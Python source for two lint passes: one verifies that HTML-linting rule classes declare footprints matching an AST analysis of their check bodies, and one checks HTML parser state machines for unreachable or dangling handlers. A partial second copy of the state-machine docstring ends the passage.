"""Footprint pass: every rule's declared footprint matches its check body.

The fused engine (:mod:`repro.core.rules.fused`) feeds each rule only the
facts its :class:`~repro.core.rules.fused.Footprint` declaration names —
a rule whose ``check`` body reads more than it declares would silently
lose findings the moment the fused engine becomes the default.  This pass
makes that impossible: it re-derives each rule's footprint from the AST
of its reference ``check`` implementation and errors when declaration and
analysis diverge.

What the analyzer extracts from a ``check(self, result)`` body:

* **events** — ``result.events_of("kind")`` literals, and iteration of
  ``result.events`` filtered by ``event.kind == ...`` / ``event.kind in
  CONST`` (class or module constants are resolved);
* **errors** — ``result.errors_of(ErrorCode.X)`` and ``error.code ==
  ErrorCode.X`` comparisons;
* **token attributes** — use of ``iter_start_tag_attrs`` /
  ``result.tokens`` / ``result.start_tags``; the attribute-name variable's
  comparisons narrow the footprint (``name == "target"``, ``name in
  URL_ATTRIBUTES``), otherwise the wildcard ``"*"`` is required;
* **tags** — DOM walks via ``result.document.iter_elements()`` (directly
  or through a same-module helper): tag-name guards that dominate every
  use of the element variable narrow the footprint, any unguarded read
  widens it to ``"*"``;
* **regions** — calls to helpers that scan ``ancestors()`` against a
  literal element name (``head``/``body``) and reads of
  ``result.document.doctype``.

Streamability — the properties the one-pass engine relies on — is
verified over the same body:

* no assignment to ``self.*`` (cross-call state would leak between
  documents when one rule instance is reused);
* no mutation of the :class:`ParseResult` (assignments into ``result``
  or calls to mutating methods on its collections);
* no re-ordering of shared streams (``sorted``/``reversed`` over
  ``result``-rooted data — the fused walk delivers document order and
  nothing else);
* no regex construction (``re.compile`` *and* the implicitly-compiling
  ``re.match``/``re.search``/... calls) inside ``check`` — patterns must
  be hoisted to module level so the hot path never re-compiles.

Handler consistency rides along: every non-empty footprint field must
have its ``fused_*`` handler implemented on the class (or a same-module
base), or the fused compiler would reject the registry at import time.

``fused_element`` handlers carry one extra obligation: the stream check
mode (``Checker(mode="stream")``) calls them *during* the parse, in
pre-order, on elements whose child lists are not yet complete and whose
text children are never materialized.  A handler reading ``.children``
or ``.parent`` would therefore see a half-built tree in stream mode and
a finished one in DOM mode — a silent parity break the fuzz oracle can
only catch after the fact.  The pass bans those reads statically.
"""
from __future__ import annotations

import ast
from typing import Callable

from ..engine import LintPass, SourceFile, attribute_chain, literal_str
from .registry_consistency import _rule_classes_in

PASS_ID = "footprint"

#: footprint field -> fused handler method it requires
HANDLER_FOR_FIELD = {
    "events": "fused_event",
    "errors": "fused_error",
    "token_attrs": "fused_attr",
    "tags": "fused_element",
}

#: list/dict methods that mutate in place — forbidden on result-rooted data
_MUTATING_METHODS = frozenset(
    {"append", "extend", "insert", "remove", "pop", "clear", "sort",
     "reverse", "update", "setdefault", "popitem"}
)

#: every ``re.<name>`` call below builds or implicitly compiles a pattern
_REGEX_CALLS = frozenset(
    {"compile", "match", "fullmatch", "search", "sub", "subn", "split",
     "findall", "finditer", "escape", "template"}
)

_FOOTPRINT_FIELDS = ("events", "errors", "token_attrs", "tags", "regions")

#: tree-structure attributes forbidden inside ``fused_element`` handlers:
#: the stream check mode emits elements pre-order during the parse, so
#: child lists are incomplete (and text children absent) when the handler
#: runs — structural reads would diverge between stream and DOM modes
_STRUCTURE_ATTRS = frozenset({"children", "parent"})


class _Unresolvable(Exception):
    """A declaration/constant the evaluator cannot statically resolve."""


def _evaluate(node: ast.AST, resolve: Callable[[str], object]):
    """Statically evaluate the constant sub-language footprints use.

    Literals, tuples/lists/sets, name references to resolvable constants,
    ``frozenset(...)``/``tuple(...)``/``sorted(...)`` calls over those,
    and ``|`` unions — exactly what the rule modules' declarations need,
    nothing more.
    """
    if isinstance(node, ast.Constant):
        return node.value
    if isinstance(node, (ast.Tuple, ast.List)):
        return tuple(_evaluate(element, resolve) for element in node.elts)
    if isinstance(node, ast.Set):
        return frozenset(_evaluate(element, resolve) for element in node.elts)
    if isinstance(node, ast.Name):
        return resolve(node.id)
    if (
        isinstance(node, ast.Attribute)
        and isinstance(node.value, ast.Name)
        and node.value.id == "self"
    ):
        # class constants referenced as self._KINDS etc.
        return resolve(node.attr)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.BitOr):
        left = _evaluate(node.left, resolve)
        right = _evaluate(node.right, resolve)
        if isinstance(left, frozenset) and isinstance(right, frozenset):
            return left | right
        raise _Unresolvable(ast.dump(node))
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
        if node.keywords or len(node.args) != 1:
            raise _Unresolvable(ast.dump(node))
        inner = _evaluate(node.args[0], resolve)
        if node.func.id == "frozenset":
            return frozenset(inner)
        if node.func.id == "tuple":
            return tuple(inner)
        if node.func.id == "sorted":
            return tuple(sorted(inner))
    raise _Unresolvable(ast.dump(node))


def _as_name_set(value) -> frozenset[str]:
    if isinstance(value, str):
        return frozenset((value,))
    if isinstance(value, (tuple, list, frozenset, set)):
        if all(isinstance(item, str) for item in value):
            return frozenset(value)
    raise _Unresolvable(repr(value))


def _references(node: ast.AST, var: str) -> bool:
    return any(
        isinstance(child, ast.Name) and child.id == var
        for child in ast.walk(node)
    )


def _conjuncts(test: ast.AST) -> list[ast.AST]:
    if isinstance(test, ast.BoolOp) and isinstance(test.op, ast.And):
        return list(test.values)
    return [test]


class _ClassRecord:
    """One concrete rule class queued for analysis at finish()."""

    __slots__ = ("file", "node", "chain")

    def __init__(self, file: SourceFile, node: ast.ClassDef,
                 chain: list[ast.ClassDef]) -> None:
        self.file = file
        self.node = node
        self.chain = chain  # local MRO: class itself, then local bases


class FootprintPass(LintPass):
    id = PASS_ID
    name = "Rule footprint verification"
    description = (
        "each Rule's declared Footprint matches the AST-analyzed footprint "
        "of its check body; check bodies are streamable (no ParseResult "
        "mutation, cross-call state, re-sorting, or inline regex "
        "construction); fused_* handlers exist for every declared field and "
        "fused_element bodies never read tree structure (.children/.parent), "
        "which the stream check mode has not built yet"
    )

    def __init__(self) -> None:
        super().__init__()
        #: module-level constants across all scanned files, name -> value
        self._constants: dict[str, object] = {}
        #: module-level functions: (file rel, name) -> FunctionDef
        self._functions: dict[tuple[str, str], ast.FunctionDef] = {}
        self._records: list[_ClassRecord] = []

    # ------------------------------------------------------------ collection

    def select(self, file: SourceFile) -> bool:
        return True

    def begin_file(self, file: SourceFile) -> None:
        for node in file.tree.body:
            if isinstance(node, ast.FunctionDef):
                self._functions[(file.rel, node.name)] = node
            elif isinstance(node, ast.Assign) and len(node.targets) == 1:
                target = node.targets[0]
                if isinstance(target, ast.Name):
                    try:
                        value = _evaluate(node.value, self._resolve_constant)
                    except _Unresolvable:
                        continue
                    self._constants[target.id] = value
        rule_classes = _rule_classes_in(file.tree)
        for name, node in rule_classes.items():
            if name.startswith("_"):
                continue  # abstract helper; analyzed through its subclasses
            chain = [node]
            cursor = node
            while True:
                base = next(
                    (rule_classes[b] for b in _class_base_names(cursor)
                     if b in rule_classes),
                    None,
                )
                if base is None or base in chain:
                    break
                chain.append(base)
                cursor = base
            self._records.append(_ClassRecord(file, node, chain))

    def _resolve_constant(self, name: str):
        if name in self._constants:
            return self._constants[name]
        raise _Unresolvable(name)

    # -------------------------------------------------------------- analysis

    def finish(self) -> None:
        analyzed = 0
        for record in self._records:
            if self._analyze_class(record):
                analyzed += 1
        self.metrics["rules_analyzed"] = analyzed

    def _class_attr(self, record: _ClassRecord, name: str) -> ast.AST | None:
        for node in record.chain:
            for statement in node.body:
                if isinstance(statement, ast.Assign):
                    for target in statement.targets:
                        if isinstance(target, ast.Name) and target.id == name:
                            return statement.value
                elif isinstance(statement, ast.AnnAssign):
                    if (
                        isinstance(statement.target, ast.Name)
                        and statement.target.id == name
                        and statement.value is not None
                    ):
                        return statement.value
        return None

    def _class_method(self, record: _ClassRecord, name: str) -> ast.FunctionDef | None:
        for node in record.chain:
            for statement in node.body:
                if isinstance(statement, ast.FunctionDef) and statement.name == name:
                    return statement
        return None

    def _resolve_for_class(self, record: _ClassRecord) -> Callable[[str], object]:
        def resolve(name: str):
            value_node = self._class_attr(record, name)
            if value_node is not None:
                return _evaluate(value_node, resolve)
            return self._resolve_constant(name)

        return resolve

    def _analyze_class(self, record: _ClassRecord) -> bool:
        file, node = record.file, record.node
        check = self._class_method(record, "check")
        if check is None:
            return False  # abstract at runtime; nothing to verify
        declared_node = self._class_attr(record, "footprint")
        if declared_node is None:
            self.report(
                file, node,
                f"rule {node.name} has no declared footprint",
                fix_hint="add a class-level `footprint = Footprint(...)` "
                "declaration so the fused engine can subscribe it",
            )
            return False
        resolve = self._resolve_for_class(record)
        declared = self._evaluate_footprint(file, node, declared_node, resolve)
        if declared is None:
            return False
        analyzer = _CheckAnalyzer(self, file, record, resolve)
        analyzed = analyzer.run(check)
        for field in _FOOTPRINT_FIELDS:
            left, right = declared.get(field, frozenset()), analyzed[field]
            if left != right:
                self.report(
                    file, declared_node,
                    f"rule {node.name} footprint field {field!r} diverges "
                    f"from its check body: declared "
                    f"{sorted(left) or '(empty)'}, analyzed "
                    f"{sorted(right) or '(empty)'}",
                    fix_hint="the declaration and the reference check must "
                    "read exactly the same facts; update whichever is wrong",
                )
        for field, method in HANDLER_FOR_FIELD.items():
            if declared.get(field) and self._class_method(record, method) is None:
                self.report(
                    file, node,
                    f"rule {node.name} declares footprint.{field} but does "
                    f"not implement {method}()",
                    fix_hint="the fused compiler rejects a subscribed rule "
                    "without its streaming handler",
                )
        handler = self._class_method(record, "fused_element")
        if handler is not None:
            self._check_element_handler_stream_safe(file, node, handler)
        return True

    def _check_element_handler_stream_safe(
        self, file: SourceFile, cls: ast.ClassDef, handler: ast.FunctionDef
    ) -> None:
        """Ban ``.children`` / ``.parent`` reads in fused_element bodies."""
        for node in ast.walk(handler):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in _STRUCTURE_ATTRS
            ):
                self.report(
                    file, node,
                    f"rule {cls.name} fused_element() reads .{node.attr} — "
                    "the stream check mode delivers elements pre-order "
                    "during the parse, before tree structure is complete",
                    fix_hint="derive structural context from the walk "
                    "(the in_head flag, the per-document state dict), "
                    "never from the node's own links",
                )

    def _evaluate_footprint(
        self,
        file: SourceFile,
        cls: ast.ClassDef,
        declared: ast.AST,
        resolve: Callable[[str], object],
    ) -> dict[str, frozenset[str]] | None:
        if not (
            isinstance(declared, ast.Call)
            and isinstance(declared.func, ast.Name)
            and declared.func.id == "Footprint"
            and not declared.args
        ):
            self.report(
                file, declared,
                f"rule {cls.name} footprint is not a keyword-only "
                "Footprint(...) call",
                fix_hint="declare `footprint = Footprint(events=..., ...)` "
                "with statically evaluable values",
            )
            return None
        fields: dict[str, frozenset[str]] = {}
        for keyword in declared.keywords:
            if keyword.arg not in _FOOTPRINT_FIELDS:
                self.report(
                    file, declared,
                    f"rule {cls.name} footprint has unknown field "
                    f"{keyword.arg!r}",
                )
                return None
            try:
                fields[keyword.arg] = _as_name_set(
                    _evaluate(keyword.value, resolve)
                )
            except _Unresolvable:
                self.report(
                    file, declared,
                    f"rule {cls.name} footprint field {keyword.arg!r} is "
                    "not statically evaluable",
                    fix_hint="use literals or module/class constants the "
                    "analyzer can resolve",
                )
                return None
        return fields

    # ------------------------------------------------------- helper analysis

    def _helper(self, file: SourceFile, name: str) -> ast.FunctionDef | None:
        return self._functions.get((file.rel, name))

    def _helper_region(self, func: ast.FunctionDef) -> str | None:
        """``head``/``body`` when ``func`` scans ancestors for that name."""
        uses_ancestors = any(
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "ancestors"
            for node in ast.walk(func)
        )
        if not uses_ancestors:
            return None
        for node in ast.walk(func):
            if not (isinstance(node, ast.Compare) and len(node.ops) == 1):
                continue
            if not isinstance(node.ops[0], ast.Eq):
                continue
            sides = (node.left, node.comparators[0])
            for this, other in (sides, sides[::-1]):
                if (
                    isinstance(this, ast.Attribute)
                    and this.attr == "name"
                    and literal_str(other) in ("head", "body")
                ):
                    return literal_str(other)
        return None

    def _helper_tree_tags(
        self, func: ast.FunctionDef, resolve: Callable[[str], object]
    ) -> frozenset[str] | None:
        """Tag set a tree helper narrows to; None when it is no tree helper."""
        if not func.args.args:
            return None
        result_var = func.args.args[0].arg
        for node in ast.walk(func):
            if not isinstance(node, (ast.ListComp, ast.SetComp, ast.GeneratorExp)):
                continue
            for generator in node.generators:
                if not _is_iter_elements_call(generator.iter, result_var):
                    continue
                if not isinstance(generator.target, ast.Name):
                    return frozenset(("*",))
                var = generator.target.id
                tags: set[str] = set()
                for test in generator.ifs:
                    for conjunct in _conjuncts(test):
                        names = _name_test(
                            conjunct, _element_name_matcher(var), resolve
                        )
                        if names is not None:
                            tags |= names
                return frozenset(tags) if tags else frozenset(("*",))
        return None


def _class_base_names(node: ast.ClassDef) -> list[str]:
    names = []
    for base in node.bases:
        if isinstance(base, ast.Name):
            names.append(base.id)
        elif isinstance(base, ast.Attribute):
            names.append(base.attr)
    return names


def _is_iter_elements_call(node: ast.AST, result_var: str) -> bool:
    if not isinstance(node, ast.Call):
        return False
    chain = attribute_chain(node.func)
    return chain == (result_var, "document", "iter_elements")


def _element_name_matcher(var: str) -> Callable[[ast.AST], bool]:
    def matches(node: ast.AST) -> bool:
        return (
            isinstance(node, ast.Attribute)
            and node.attr == "name"
            and isinstance(node.value, ast.Name)
            and node.value.id == var
        )

    return matches


def _plain_name_matcher(var: str) -> Callable[[ast.AST], bool]:
    def matches(node: ast.AST) -> bool:
        return isinstance(node, ast.Name) and node.id == var

    return matches


def _name_test(
    node: ast.AST,
    matches: Callable[[ast.AST], bool],
    resolve: Callable[[str], object],
) -> frozenset[str] | None:
    """The set of names ``node`` constrains the matched variable to.

    ``x.name == "base"`` -> {"base"}; ``name in URL_ATTRIBUTES`` -> the
    resolved set; an ``or`` of name tests -> their union; anything else
    (including tests mixing names with other conditions under ``or``)
    -> None, meaning "does not narrow".
    """
    if isinstance(node, ast.BoolOp) and isinstance(node.op, ast.Or):
        union: set[str] = set()
        for value in node.values:
            part = _name_test(value, matches, resolve)
            if part is None:
                return None
            union |= part
        return frozenset(union)
    if not (isinstance(node, ast.Compare) and len(node.ops) == 1):
        return None
    left, op, right = node.left, node.ops[0], node.comparators[0]
    try:
        if isinstance(op, ast.Eq):
            for this, other in ((left, right), (right, left)):
                if matches(this):
                    value = literal_str(other)
                    if value is None and isinstance(other, ast.Name):
                        return _as_name_set(resolve(other.id))
                    if value is not None:
                        return frozenset((value,))
            return None
        if isinstance(op, ast.In) and matches(left):
            return _as_name_set(_evaluate(right, resolve))
    except _Unresolvable:
        return None
    return None


class _CheckAnalyzer:
    """Extracts one check body's footprint and streamability findings."""

    def __init__(
        self,
        owner: FootprintPass,
        file: SourceFile,
        record: _ClassRecord,
        resolve: Callable[[str], object],
    ) -> None:
        self.owner = owner
        self.file = file
        self.record = record
        self.resolve = resolve
        self.footprint: dict[str, set[str]] = {
            field: set() for field in _FOOTPRINT_FIELDS
        }

    def report(self, node: ast.AST, message: str, *, fix_hint: str = "") -> None:
        self.owner.report(self.file, node, message, fix_hint=fix_hint)

    def run(self, check: ast.FunctionDef) -> dict[str, frozenset[str]]:
        args = check.args.args
        self.result_var = args[1].arg if len(args) > 1 else "result"
        for node in ast.walk(check):
            self._visit(node)
        self._analyze_event_stream(check)
        self._analyze_error_stream(check)
        self._analyze_token_stream(check)
        self._analyze_tree(check)
        return {
            field: frozenset(values)
            for field, values in self.footprint.items()
        }

    # -------------------------------------------------- streamability guards

    def _visit(self, node: ast.AST) -> None:
        cls = self.record.node.name
        if isinstance(node, (ast.Assign, ast.AugAssign)):
            targets = (
                node.targets if isinstance(node, ast.Assign) else [node.target]
            )
            for target in targets:
                chain = attribute_chain(target)
                if not chain and isinstance(target, ast.Subscript):
                    chain = attribute_chain(target.value)
                if len(chain) >= 2 and chain[0] == "self":
                    self.report(
                        node,
                        f"rule {cls} check() assigns to self."
                        f"{'.'.join(chain[1:])} — cross-call state breaks "
                        "streamability",
                        fix_hint="keep per-document state in locals (or the "
                        "fused handler's state dict)",
                    )
                elif chain and chain[0] == self.result_var and len(chain) > 1:
                    self.report(
                        node,
                        f"rule {cls} check() mutates the ParseResult "
                        f"({'.'.join(chain)})",
                        fix_hint="rules must be pure readers of the shared "
                        "parse",
                    )
        elif isinstance(node, ast.Call):
            chain = attribute_chain(node.func)
            if not chain:
                return
            if (
                len(chain) >= 3
                and chain[0] == self.result_var
                and chain[-1] in _MUTATING_METHODS
            ):
                self.report(
                    node,
                    f"rule {cls} check() calls {'.'.join(chain)}() — "
                    "mutating the shared ParseResult",
                    fix_hint="rules must be pure readers of the shared parse",
                )
            elif chain[-1] in ("sorted", "reversed") and len(chain) == 1:
                for arg in node.args:
                    arg_chain = attribute_chain(arg)
                    if not arg_chain and isinstance(arg, ast.Call):
                        arg_chain = attribute_chain(arg.func)
                    if arg_chain and arg_chain[0] == self.result_var:
                        self.report(
                            node,
                            f"rule {cls} check() re-orders "
                            f"{'.'.join(arg_chain)} with {chain[-1]}() — "
                            "the fused walk guarantees document order only",
                            fix_hint="consume the stream in document order",
                        )
            elif chain[0] == "re" and len(chain) == 2 and chain[1] in _REGEX_CALLS:
                self.report(
                    node,
                    f"rule {cls} check() builds a regex inline "
                    f"(re.{chain[1]}) — compile patterns at module level",
                    fix_hint="hoist to a module-level re.compile() constant "
                    "so the per-page hot path never re-compiles",
                )

    # --------------------------------------------------------- event stream

    def _result_attr_used(self, check: ast.FunctionDef, attr: str) -> ast.AST | None:
        for node in ast.walk(check):
            chain = attribute_chain(node) if isinstance(node, ast.Attribute) else ()
            if chain == (self.result_var, attr):
                return node
        return None

    def _result_method_calls(self, check: ast.FunctionDef, method: str):
        for node in ast.walk(check):
            if (
                isinstance(node, ast.Call)
                and attribute_chain(node.func) == (self.result_var, method)
            ):
                yield node

    def _analyze_event_stream(self, check: ast.FunctionDef) -> None:
        cls = self.record.node.name
        kinds = self.footprint["events"]
        for call in self._result_method_calls(check, "events_of"):
            kind = literal_str(call.args[0]) if call.args else None
            if kind is None:
                self.report(
                    call,
                    f"rule {cls} calls events_of() with a non-literal kind "
                    "— not statically analyzable",
                    fix_hint="pass the kind as a string literal",
                )
            else:
                kinds.add(kind)
        used = self._result_attr_used(check, "events")
        if used is None:
            return
        narrowed = False
        for node in ast.walk(check):
            names = _name_test(
                node, self._kind_matcher("kind"), self.resolve
            )
            if names is not None:
                kinds.update(names)
                narrowed = True
        if not narrowed:
            self.report(
                used,
                f"rule {cls} reads result.events without a statically "
                "recognizable kind filter",
                fix_hint="filter on event.kind against literals or a class "
                "constant so the footprint can be derived",
            )

    def _kind_matcher(self, attr: str) -> Callable[[ast.AST], bool]:
        def matches(node: ast.AST) -> bool:
            return isinstance(node, ast.Attribute) and node.attr == attr

        return matches

    # --------------------------------------------------------- error stream

    def _analyze_error_stream(self, check: ast.FunctionDef) -> None:
        cls = self.record.node.name
        codes = self.footprint["errors"]
        for call in self._result_method_calls(check, "errors_of"):
            code = None
            if call.args:
                chain = attribute_chain(call.args[0])
                if len(chain) == 2 and chain[0] == "ErrorCode":
                    code = chain[1]
            if code is None:
                self.report(
                    call,
                    f"rule {cls} calls errors_of() with a non-literal "
                    "ErrorCode — not statically analyzable",
                    fix_hint="pass ErrorCode.<MEMBER> directly",
                )
            else:
                codes.add(code)
        used = self._result_attr_used(check, "errors")
        if used is None:
            return
        narrowed = False
        for node in ast.walk(check):
            if not (isinstance(node, ast.Compare) and len(node.ops) == 1):
                continue
            if not isinstance(node.ops[0], ast.Eq):
                continue
            sides = (node.left, node.comparators[0])
            for this, other in (sides, sides[::-1]):
                if isinstance(this, ast.Attribute) and this.attr == "code":
                    chain = attribute_chain(other)
                    if len(chain) == 2 and chain[0] == "ErrorCode":
                        codes.add(chain[1])
                        narrowed = True
        if not narrowed:
            self.report(
                used,
                f"rule {cls} reads result.errors without a statically "
                "recognizable ErrorCode filter",
                fix_hint="compare error.code against ErrorCode members",
            )

    # ---------------------------------------------------------- token stream

    def _analyze_token_stream(self, check: ast.FunctionDef) -> None:
        attrs = self.footprint["token_attrs"]
        sources: list[tuple[ast.AST, str | None]] = []
        for node in ast.walk(check):
            if isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Name) and func.id == "iter_start_tag_attrs":
                    sources.append((node, self._attr_var_for(check, node)))
                elif attribute_chain(func) == (self.result_var, "start_tags"):
                    sources.append((node, None))
            elif isinstance(node, ast.Attribute):
                if attribute_chain(node) == (self.result_var, "tokens"):
                    sources.append((node, None))
        if not sources:
            return
        names: set[str] = set()
        narrowed = True
        for _source, var in sources:
            if var is None:
                narrowed = False
                continue
            found = self._narrowing_names(check, _plain_name_matcher(var))
            if found is None:
                narrowed = False
            else:
                names |= found
        if narrowed and names:
            attrs.update(names)
        else:
            attrs.add("*")

    def _attr_var_for(self, check: ast.FunctionDef, call: ast.Call) -> str | None:
        """The attribute-name variable of the 3-tuple unpack over the call."""
        for node in ast.walk(check):
            target = None
            if isinstance(node, ast.For) and node.iter is call:
                target = node.target
            elif isinstance(node, (ast.ListComp, ast.SetComp, ast.GeneratorExp)):
                for generator in node.generators:
                    if generator.iter is call:
                        target = generator.target
            if (
                isinstance(target, ast.Tuple)
                and len(target.elts) == 3
                and isinstance(target.elts[1], ast.Name)
            ):
                return target.elts[1].id
        return None

    def _narrowing_names(
        self, check: ast.FunctionDef, matches: Callable[[ast.AST], bool]
    ) -> frozenset[str] | None:
        names: set[str] = set()
        for node in ast.walk(check):
            if isinstance(node, (ast.If, ast.IfExp)):
                for conjunct in _conjuncts(node.test):
                    found = _name_test(conjunct, matches, self.resolve)
                    if found is not None:
                        names |= found
            elif isinstance(node, (ast.ListComp, ast.SetComp, ast.GeneratorExp)):
                for generator in node.generators:
                    for test in generator.ifs:
                        for conjunct in _conjuncts(test):
                            found = _name_test(conjunct, matches, self.resolve)
                            if found is not None:
                                names |= found
        return frozenset(names) if names else None

    # ------------------------------------------------------------- tree walk

    def _analyze_tree(self, check: ast.FunctionDef) -> None:
        tags = self.footprint["tags"]
        regions = self.footprint["regions"]
        owner, file = self.owner, self.file
        for node in ast.walk(check):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                helper = owner._helper(file, node.func.id)
                if helper is None:
                    continue
                region = owner._helper_region(helper)
                if region is not None:
                    regions.add(region)
                    continue
                helper_tags = owner._helper_tree_tags(helper, self.resolve)
                if helper_tags is not None:
                    tags.update(helper_tags)
            elif isinstance(node, ast.Attribute):
                if attribute_chain(node) == (
                    self.result_var, "document", "doctype",
                ):
                    regions.add("doctype")
        for node in ast.walk(check):
            if isinstance(node, ast.For) and _is_iter_elements_call(
                node.iter, self.result_var
            ):
                self._analyze_raw_tree_loop(node)
            elif isinstance(node, (ast.ListComp, ast.SetComp, ast.GeneratorExp)):
                for generator in node.generators:
                    if _is_iter_elements_call(generator.iter, self.result_var):
                        self._analyze_raw_tree_comp(generator)

    def _analyze_raw_tree_loop(self, loop: ast.For) -> None:
        tags = self.footprint["tags"]
        if not isinstance(loop.target, ast.Name):
            tags.add("*")
            return
        var = loop.target.id
        matches = _element_name_matcher(var)
        wildcard = False
        for statement in loop.body:
            guard: frozenset[str] | None = None
            if isinstance(statement, ast.If):
                for conjunct in _conjuncts(statement.test):
                    guard = _name_test(conjunct, matches, self.resolve)
                    if guard is not None:
                        break
            if guard is not None:
                tags.update(guard)
            elif _references(statement, var):
                wildcard = True
        if wildcard or not tags:
            tags.clear()
            tags.add("*")

    def _analyze_raw_tree_comp(self, generator: ast.comprehension) -> None:
        tags = self.footprint["tags"]
        if not isinstance(generator.target, ast.Name):
            tags.add("*")
            return
        matches = _element_name_matcher(generator.target.id)
        found: set[str] = set()
        for test in generator.ifs:
            for conjunct in _conjuncts(test):
                names = _name_test(conjunct, matches, self.resolve)
                if names is not None:
                    found |= names
        if found:
            tags.update(found)
        else:
            tags.add("*")
