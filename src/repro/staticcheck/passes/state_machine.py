"""State-machine exhaustiveness pass over the HTML parser.

The tokenizer (``repro/html/tokenizer.py``) and tree builder
(``repro/html/treebuilder.py``) are method-per-state machines: states are
methods matching a naming convention (``_<name>_state`` /
``_mode_<name>``) and transitions are attribute references
(``self._state = self._tag_open_state``, ``self.mode =
self._mode_in_body``).  The paper's violation definitions are anchored on
*named* tokenizer error states and insertion modes, so a handler that
exists but is never reachable — or a transition naming a handler that was
renamed away — silently changes which violations can ever fire.

For every class that looks like a state machine (three or more methods
matching a handler pattern) this pass checks:

* **no unreachable handlers** — every handler method is referenced as
  ``self.<handler>`` somewhere in the class (entry states are referenced
  by ``__init__``/``switch_to``, so they count);
* **no dangling transitions** — every ``self.<x>`` reference matching a
  handler pattern resolves to a defined method;
* **content-model coverage** — when a method holds a dispatch dict whose
  values are all handler references (the tokenizer's ``switch_to``),
  its keys must cover every public ALL-CAPS module-level string constant
  (the declared content models: DATA, RCDATA, RAWTEXT, ...).

Limitations (documented, suppressible): handlers inherited from a base
class in another module would be reported as dangling; the parser defines
its machines in single classes, so this does not arise today.
"""
from __future__ import annotations

import ast
import re

from ..engine import LintPass, SourceFile

PASS_ID = "state-machine"

#: naming conventions that mark a method as a state handler
HANDLER_PATTERNS: tuple[re.Pattern[str], ...] = (
    re.compile(r"\A_\w+_state\Z"),   # tokenizer states
    re.compile(r"\A_mode_\w+\Z"),    # tree-builder insertion modes
)

#: a class is treated as a state machine once it has this many handlers
MIN_HANDLERS = 3


def _matching(pattern: re.Pattern[str], names: set[str]) -> set[str]:
    return {name for name in names if pattern.match(name)}


class StateMachinePass(LintPass):
    id = PASS_ID
    name = "Parser state-machine exhaustiveness"
    description = (
        "tokenizer/tree-builder handler tables have no unreachable "
        "states, no dangling transitions, and cover every declared "
        "content model"
    )

    def select(self, file: SourceFile) -> bool:
        return "html" in file.parts[:-1]

    def visit_ClassDef(self, file: SourceFile, node: ast.ClassDef) -> None:
        methods = {
            statement.name: statement
            for statement in node.body
            if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef))
        }
        self_refs: dict[str, ast.Attribute] = {}
        stored: set[str] = set()
        for sub in ast.walk(node):
            if (
                isinstance(sub, ast.Attribute)
                and isinstance(sub.value, ast.Name)
                and sub.value.id == "self"
            ):
                self_refs.setdefault(sub.attr, sub)
                if isinstance(sub.ctx, ast.Store):
                    # an instance *variable* (e.g. the tokenizer's
                    # ``self._return_state`` holding a state), not a handler
                    stored.add(sub.attr)

        for pattern in HANDLER_PATTERNS:
            defined = _matching(pattern, set(methods))
            if len(defined) < MIN_HANDLERS:
                continue
            referenced = _matching(pattern, set(self_refs))
            for name in sorted(defined - referenced):
                self.report(
                    file, methods[name],
                    f"state handler {node.name}.{name} is defined but never "
                    "referenced (unreachable state)",
                    fix_hint="wire a transition to it or delete it",
                )
            for name in sorted(referenced - defined - stored):
                self.report(
                    file, self_refs[name],
                    f"transition references undefined handler self.{name} "
                    f"in {node.name}",
                    fix_hint="define the handler or fix the transition name",
                )

        self._check_dispatch_dicts(file, node, methods)

    def _check_dispatch_dicts(
        self,
        file: SourceFile,
        node: ast.ClassDef,
        methods: dict[str, ast.AST],
    ) -> None:
        declared = self._declared_content_models(file.tree)
        if not declared:
            return
        for method in methods.values():
            for sub in ast.walk(method):
                if not isinstance(sub, ast.Dict) or not sub.values:
                    continue
                if not all(
                    isinstance(value, ast.Attribute)
                    and isinstance(value.value, ast.Name)
                    and value.value.id == "self"
                    and any(p.match(value.attr) for p in HANDLER_PATTERNS)
                    for value in sub.values
                ):
                    continue
                keys = {
                    key.id for key in sub.keys if isinstance(key, ast.Name)
                }
                for name in sorted(declared - keys):
                    self.report(
                        file, sub,
                        f"declared content-model state {name} has no entry "
                        "in the dispatch table",
                        fix_hint="add the state to the switch_to table",
                    )

    @staticmethod
    def _declared_content_models(tree: ast.Module) -> set[str]:
        declared: set[str] = set()
        for statement in tree.body:
            if not isinstance(statement, ast.Assign):
                continue
            if not (
                isinstance(statement.value, ast.Constant)
                and isinstance(statement.value.value, str)
            ):
                continue
            for target in statement.targets:
                if (
                    isinstance(target, ast.Name)
                    and target.id.isupper()
                    and not target.id.startswith("_")
                ):
                    declared.add(target.id)
        return declared
