"""State-machine exhaustiveness pass over the HTML parser.

The tokenizer (``repro/html/tokenizer.py``) and tree builder
(``repro/html/treebuilder.py``) are method-per-state machines: states are
methods matching a naming convention (``_<name>_state`` /
``_mode_<name>``) and transitions are attribute references
(``self._state = self._tag_open_state``, ``self.mode =
self._mode_in_body``).  The paper's violation definitions are anchored on
*named* tokenizer error states and insertion modes, so a handler that
exists but is never reachable — or a transition naming a handler that was
renamed away — silently changes which violations can ever fire.

For every class that looks like a state machine (three or more methods
matching a handler pattern) this pass checks:

* **no unreachable handlers** — every handler method is referenced as
  ``self.<handler>`` somewhere in the class (entry states are referenced
  by ``__init__``/``switch_to``, so they count);
* **no dangling transitions** — every ``self.<x>`` reference matching a
  handler pattern resolves to a defined method;
* **content-model coverage** — when a method holds a dispatch dict whose
  values are all handler references (the tokenizer's ``switch_to``),
  its keys must cover every public ALL-CAPS module-level string constant
  (the declared content models: DATA, RCDATA, RAWTEXT, ...).

The tokenizer's chunked fast path adds a fourth family of invariants,
driven by its ``CHUNK_BREAK_SETS`` declaration (handler name -> the
delimiter set its bulk-scan run pattern stops at).  When a module declares
that dict, the pass verifies:

* **declared handlers exist** — every ``CHUNK_BREAK_SETS`` key names a
  defined state handler in the module;
* **run patterns come from declarations** — every ``_scanner("...")``
  call names a declared key, and every key is compiled by exactly such a
  call (a break set nobody scans with is dead, a scanner without a
  declaration is unchecked);
* **handlers use their own pattern** — the handler's body references the
  module-level run pattern compiled from its declaration, so a chunked
  state cannot silently scan with another state's delimiters;
* **every break character is handled** — each character of the declared
  break set appears in a string literal inside the handler, a helper
  method it calls on ``self``, or a module string constant those bodies
  reference (``_WHITESPACE``).  Widening a break set without adding the
